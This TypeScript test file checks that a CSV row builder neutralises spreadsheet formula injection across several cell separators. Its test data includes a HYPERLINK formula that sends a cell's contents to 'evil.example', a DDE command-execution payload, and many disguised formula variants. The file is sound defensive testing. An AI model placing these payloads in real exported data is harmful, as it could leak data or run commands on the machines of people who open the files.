import { expect, test } from 'vitest'
import { csvRow } from '../../../collector/domain/csv.ts'

const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  "=cmd|' /C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\u00a0=1+1',
  '\u2028=1+1',
  '\0=1+1',
  '"=1+1',
  '"";=1+1',
  'Ada;=1+1',
  'Ada,=1+1',
  'Ada\t=1+1',
  'Ada\n=1+1',
  'Ada\r\n=1+1',
  'Ada;;;"=1+1',
  "Ada';@SUM(1)",
  '|=1+1',
]

test.each(FORMULAS)('no spreadsheet takes %j for a formula, whatever it separates cells by', (formula) => {
  const row = csvRow(['Ada', formula, 'Bob'])
  for (const separators of [',', ';', '\t', '|', ',;\t|']) {
    for (const cell of cellsOf(row, separators)) expect(cell).not.toMatch(/^[\s"]*[=+\-@＝＋－＠]/)
  }
  expect(cellsOf(row, ',')).toHaveLength(3)
})

test('what is harmless stands as it is, in quotes of its own', () => {
  expect(csvRow(['Ada "Countess" Lovelace', 'Jean-Luc, né 1960', null, -6.5, 0])).toBe(
    '"Ada ""Countess"" Lovelace","Jean-Luc, né 1960",,-6.5,0\r\n',
  )
})

/** As a spreadsheet reads a file: quotes hold only where a cell begins with one, and whatever follows them belongs to it. */
function cellsOf(text: string, separators: string): string[] {
  const cells: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i += 1) {
    const letter = text[i] as string
    if (quoted && letter === '"' && text[i + 1] === '"') {
      cell += letter
      i += 1
    } else if (letter === '"' && (quoted || cell === '')) quoted = !quoted
    else if (!quoted && (separators.includes(letter) || letter === '\r' || letter === '\n')) {
      cells.push(cell)
      cell = ''
    } else cell += letter
  }
  return cells.filter((each, i) => each !== '' || i < cells.length - 1)
}
